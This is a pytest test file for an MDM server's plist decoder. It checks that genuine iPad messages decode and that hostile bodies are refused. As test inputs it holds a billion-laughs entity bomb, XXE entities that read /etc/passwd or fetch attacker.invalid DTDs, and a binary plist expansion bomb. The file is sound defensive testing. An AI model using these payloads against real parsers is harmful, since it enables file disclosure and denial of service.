"""The plist codec refuses hostile bodies before they reach any handler and reads what iPads send."""

from __future__ import annotations

import plistlib
import struct
from datetime import datetime

import pytest

from mdm.doors.apple.plist_codec import (
    MAX_DEPTH,
    BodyTooLarge,
    MalformedPlist,
    PlistError,
    UnsafePlist,
    decode_message,
    encode_command,
)

APPLE_DOCTYPE = (
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
)

# As an iPad sends it: XML declaration, Apple's DOCTYPE, tab-indented, keys sorted.
REAL_AUTHENTICATE = f"""<?xml version="1.0" encoding="UTF-8"?>
{APPLE_DOCTYPE}
<plist version="1.0">
<dict>
	<key>BuildVersion</key>
	<string>21F90</string>
	<key>DeviceName</key>
	<string>救急1 iPad</string>
	<key>MessageType</key>
	<string>Authenticate</string>
	<key>Model</key>
	<string>MPQ03J/A</string>
	<key>ModelName</key>
	<string>iPad</string>
	<key>OSVersion</key>
	<string>17.5.1</string>
	<key>ProductName</key>
	<string>iPad13,18</string>
	<key>SerialNumber</key>
	<string>F9FXK2LQ7M</string>
	<key>Topic</key>
	<string>com.apple.mgmt.External.3b0e3c4e-55a6-4a3e-9d2f-6f0d9a2b1c11</string>
	<key>UDID</key>
	<string>00008101-001A2B3C4D5E001E</string>
</dict>
</plist>
""".encode()


def test_real_authenticate_with_apple_doctype_is_decoded() -> None:
    message = decode_message(REAL_AUTHENTICATE)

    assert message["MessageType"] == "Authenticate"
    assert message["UDID"] == "00008101-001A2B3C4D5E001E"
    assert message["DeviceName"] == "救急1 iPad"
    assert message["Topic"].startswith("com.apple.mgmt.External.")


def test_legacy_apple_computer_doctype_and_utf8_bom_are_accepted() -> None:
    legacy = REAL_AUTHENTICATE.replace(b"-//Apple//DTD", b"-//Apple Computer//DTD")

    assert decode_message(legacy)["MessageType"] == "Authenticate"
    assert decode_message(b"\xef\xbb\xbf" + REAL_AUTHENTICATE)["MessageType"] == "Authenticate"


def test_plist_without_doctype_is_accepted() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<plist version="1.0"><dict><key>Status</key><string>Idle</string></dict></plist>'
    )

    assert decode_message(body) == {"Status": "Idle"}


def test_billion_laughs_is_refused_as_unsafe() -> None:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ]
    body = (
        '<?xml version="1.0"?>\n<!DOCTYPE plist [\n' + "\n".join(entities) + "\n]>\n"
        "<plist><dict><key>UDID</key><string>&lol9;</string></dict></plist>"
    ).encode()

    with pytest.raises(UnsafePlist):
        decode_message(body)


def test_external_entity_is_refused_as_unsafe() -> None:
    body = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE plist [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
        b"<plist><dict><key>UDID</key><string>&xxe;</string></dict></plist>"
    )

    with pytest.raises(UnsafePlist):
        decode_message(body)


@pytest.mark.parametrize(
    "doctype",
    [
        # Apple's public id with an internal subset smuggled in.
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
        '"http://www.apple.com/DTDs/PropertyList-1.0.dtd" [ <!ENTITY a "b"> ]>',
        # Apple's public id, but a system id that points elsewhere.
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://attacker.invalid/evil.dtd">',
        '<!DOCTYPE plist SYSTEM "file:///etc/passwd">',
        "<!DOCTYPE plist>",
        "<!doctype plist>",
        "<! DOCTYPE plist [<!ENTITY a 'b'>]>",
        "<!\nENTITY a 'b'>",
        '<!ENTITY % remote SYSTEM "http://attacker.invalid/x">',
        "<!ELEMENT plist ANY>",
        "<!ATTLIST plist version CDATA #FIXED '1.0'>",
    ],
)
def test_any_other_doctype_or_declaration_is_refused(doctype: str) -> None:
    body = f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<plist version="1.0"><dict/></plist>'.encode()

    with pytest.raises(UnsafePlist):
        decode_message(body)


def test_second_doctype_after_apple_doctype_is_refused() -> None:
    body = REAL_AUTHENTICATE.replace(APPLE_DOCTYPE.encode(), (APPLE_DOCTYPE + "\n" + APPLE_DOCTYPE).encode())

    with pytest.raises(UnsafePlist):
        decode_message(body)


def test_declaration_hidden_in_comment_is_refused() -> None:
    body = REAL_AUTHENTICATE.replace(b"<plist", b"<!-- x --><!ENTITY a 'b'><plist", 1)

    with pytest.raises(UnsafePlist):
        decode_message(body)


def test_utf16_body_is_refused_so_no_declaration_can_hide_from_the_scan() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE plist [<!ENTITY a "b">]>\n'
        "<plist><dict><key>A</key><string>&a;</string></dict></plist>"
    ).encode("utf-16")

    with pytest.raises(MalformedPlist, match="UTF-8"):
        decode_message(body)


def test_non_utf8_declared_encoding_is_refused() -> None:
    body = REAL_AUTHENTICATE.replace(b'encoding="UTF-8"', b'encoding="cp037"')

    with pytest.raises(MalformedPlist, match="UTF-8"):
        decode_message(body)


def test_body_over_limit_is_refused_before_parsing() -> None:
    # Not even a plist: proves the size check runs first (a parse would fail differently).
    body = b"\x00" * (2 * 1024 * 1024)

    with pytest.raises(BodyTooLarge) as raised:
        decode_message(body)
    assert raised.value.http_status == 413


def test_custom_limit_applies_and_body_at_limit_passes() -> None:
    assert (
        decode_message(REAL_AUTHENTICATE, max_bytes=len(REAL_AUTHENTICATE))["MessageType"] == "Authenticate"
    )
    with pytest.raises(BodyTooLarge):
        decode_message(REAL_AUTHENTICATE, max_bytes=len(REAL_AUTHENTICATE) - 1)


@pytest.mark.parametrize(
    "body",
    [
        REAL_AUTHENTICATE[: len(REAL_AUTHENTICATE) // 2],
        b"",
        b"hello",
        b"{}",
        b"bplist00\x00\x01\x02",
        b'<?xml version="1.0"?><plist><dict><key>A</key><integer>1'
        + b"9" * 5000
        + b"</integer></dict></plist>",
        b'<?xml version="1.0"?><plist><dict><key>A</key><string>&undefined;</string></dict></plist>',
    ],
    ids=["truncated", "empty", "text", "json", "truncated-binary", "huge-integer", "undefined-entity"],
)
def test_truncated_or_non_plist_body_is_malformed(body: bytes) -> None:
    with pytest.raises(MalformedPlist) as raised:
        decode_message(body)
    assert raised.value.http_status == 400


@pytest.mark.parametrize("value", [["Idle"], "Idle", 1, b"data"])
def test_non_dict_top_level_is_malformed(value: object) -> None:
    for fmt in (plistlib.FMT_XML, plistlib.FMT_BINARY):
        with pytest.raises(MalformedPlist, match="not a dictionary"):
            decode_message(plistlib.dumps(value, fmt=fmt))


def test_binary_plist_is_accepted() -> None:
    message = {
        "UDID": "00008101-001A2B3C4D5E001E",
        "CommandUUID": "0f6e9a1c-0000-4000-8000-000000000001",
        "Status": "Acknowledged",
        "QueryResponses": {"IsSupervised": True, "BatteryLevel": 0.8, "Token": b"\x01\x02"},
    }

    assert decode_message(plistlib.dumps(message, fmt=plistlib.FMT_BINARY)) == message


def test_xml_values_keep_their_types() -> None:
    body = plistlib.dumps(
        {"Token": b"\x00\xff", "When": datetime(2026, 11, 23, 3, 0), "Count": 3, "Ok": False, "List": [1.5]}
    )

    assert decode_message(body) == {
        "Token": b"\x00\xff",
        "When": datetime(2026, 11, 23, 3, 0),
        "Count": 3,
        "Ok": False,
        "List": [1.5],
    }


def _binary_plist(objects: list[bytes], top: int = 0) -> bytes:
    """A hand-built bplist00 with one-byte references, for structures plistlib will not write."""
    body = bytearray(b"bplist00")
    offsets = []
    for obj in objects:
        offsets.append(len(body))
        body += obj
    offset_table = len(body)
    body += bytes(offsets) if offset_table < 256 else b"".join(struct.pack(">H", o) for o in offsets)
    offset_size = 1 if offset_table < 256 else 2
    body += struct.pack(">6xBBQQQ", offset_size, 1, len(objects), top, offset_table)
    return bytes(body)


def test_binary_plist_with_shared_arrays_is_refused_not_expanded() -> None:
    # Object 0: dict {"A": obj1}; obj1..obj30: arrays of 10 references to the next array. Parsed, it
    # is a tree of 10**29 nodes sharing 30 lists: a binary billion laughs.
    objects = [bytes([0xD1, 31, 1]), *[bytes([0xAA]) + bytes([i + 1] * 10) for i in range(1, 30)]]
    objects.append(bytes([0xA0]))  # object 30: empty array ends the chain
    objects.append(b"\x51A")  # object 31: the key "A"

    with pytest.raises(UnsafePlist, match="repeatedly"):
        decode_message(_binary_plist(objects))


def test_binary_plist_with_a_cycle_is_refused() -> None:
    # Object 0: dict {"A": obj1}; obj1: array containing itself.
    objects = [bytes([0xD1, 2, 1]), bytes([0xA1, 1]), b"\x51A"]

    with pytest.raises(UnsafePlist):
        decode_message(_binary_plist(objects))


def test_binary_plist_with_non_string_key_is_refused() -> None:
    objects = [bytes([0xD1, 1, 1]), bytes([0x10, 7])]  # {7: 7}

    with pytest.raises(MalformedPlist, match="key"):
        decode_message(_binary_plist(objects))


def test_binary_plist_with_uid_value_is_refused() -> None:
    body = plistlib.dumps({"A": plistlib.UID(1)}, fmt=plistlib.FMT_BINARY)

    with pytest.raises(MalformedPlist, match="UID"):
        decode_message(body)


def test_nesting_beyond_max_depth_is_refused() -> None:
    depth = MAX_DEPTH + 5
    body = (
        b'<?xml version="1.0"?><plist><dict><key>A</key>'
        + b"<array>" * depth
        + b"</array>" * depth
        + b"</dict></plist>"
    )
    deep_enough = (
        b'<?xml version="1.0"?><plist><dict><key>A</key>'
        + b"<array>" * (MAX_DEPTH - 1)
        + b"</array>" * (MAX_DEPTH - 1)
        + b"</dict></plist>"
    )

    with pytest.raises(UnsafePlist, match="deeper"):
        decode_message(body)
    assert "A" in decode_message(deep_enough)


def test_all_refusals_are_plist_errors_and_value_errors() -> None:
    assert issubclass(BodyTooLarge, PlistError)
    assert issubclass(UnsafePlist, PlistError)
    assert issubclass(MalformedPlist, PlistError)
    assert issubclass(PlistError, ValueError)
    assert UnsafePlist.http_status == 400


def test_encode_command_shape() -> None:
    body = encode_command(
        "5b0a2d1e-8c77-4a3f-9f0e-2b1c3d4e5f60", "DeviceLock", {"PIN": "123456", "Message": "拾得者は119へ"}
    )

    assert body.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC')
    assert plistlib.loads(body) == {
        "CommandUUID": "5b0a2d1e-8c77-4a3f-9f0e-2b1c3d4e5f60",
        "Command": {"RequestType": "DeviceLock", "PIN": "123456", "Message": "拾得者は119へ"},
    }
    # What we send, we can read back through our own strict decoder.
    assert decode_message(body)["Command"]["RequestType"] == "DeviceLock"


def test_encode_command_without_params_and_with_nested_params() -> None:
    assert plistlib.loads(encode_command("u1", "DeviceInformation", {}))["Command"] == {
        "RequestType": "DeviceInformation"
    }
    nested = {"Queries": ["UDID", "OSVersion"], "Payload": b"\x01"}
    assert plistlib.loads(encode_command("u2", "DeviceInformation", nested))["Command"]["Queries"] == [
        "UDID",
        "OSVersion",
    ]


@pytest.mark.parametrize(
    ("command_uuid", "request_type", "params"),
    [("", "DeviceLock", {}), ("u", "", {}), ("u", "DeviceLock", {"RequestType": "EraseDevice"})],
)
def test_encode_command_refuses_bad_arguments(command_uuid: str, request_type: str, params: dict) -> None:
    with pytest.raises(ValueError):
        encode_command(command_uuid, request_type, params)


def test_simulated_ipad_bodies_decode() -> None:
    from tests.support.apple_device import SimulatedIPad

    ipad = SimulatedIPad(None, None, imei="35 000000 000000 0")  # type: ignore[arg-type]  # signing not used

    authenticate = decode_message(ipad.authenticate_body())
    token_update = decode_message(ipad.token_update_body())
    result = decode_message(ipad.result_body("c-1", "Error"))

    assert authenticate["MessageType"] == "Authenticate"
    assert authenticate["UDID"] == ipad.udid
    assert authenticate["IMEI"] == "35 000000 000000 0"
    assert token_update["Token"].hex() == ipad.token_hex
    assert token_update["PushMagic"] == ipad.push_magic
    assert token_update["AwaitingConfiguration"] is False
    assert decode_message(ipad.checkout_body())["MessageType"] == "CheckOut"
    assert decode_message(ipad.idle_body()) == {"Status": "Idle", "UDID": ipad.udid}
    assert result["Status"] == "Error"
    assert result["ErrorChain"][0].keys() == {
        "ErrorCode",
        "ErrorDomain",
        "LocalizedDescription",
        "USEnglishDescription",
    }
    info = decode_message(ipad.result_body("c-2", QueryResponses=ipad.device_information()))
    assert info["QueryResponses"]["IsSupervised"] is True
    with pytest.raises(ValueError):
        ipad.result_body("c-3", "Done")


@pytest.mark.parametrize("fmt", [plistlib.FMT_XML, plistlib.FMT_BINARY], ids=["xml", "binary"])
def test_every_single_byte_corruption_is_a_plist_error_or_a_dict(fmt: plistlib.PlistFormat) -> None:
    body = plistlib.dumps(
        {"UDID": "00008101-001A2B3C4D5E001E", "Status": "Acknowledged", "List": [1, 2.5, True, b"\x00"]},
        fmt=fmt,
    )

    for position in range(len(body)):
        corrupted = bytearray(body)
        corrupted[position] ^= 0xA5
        try:
            assert isinstance(decode_message(bytes(corrupted)), dict)
        except PlistError:
            pass
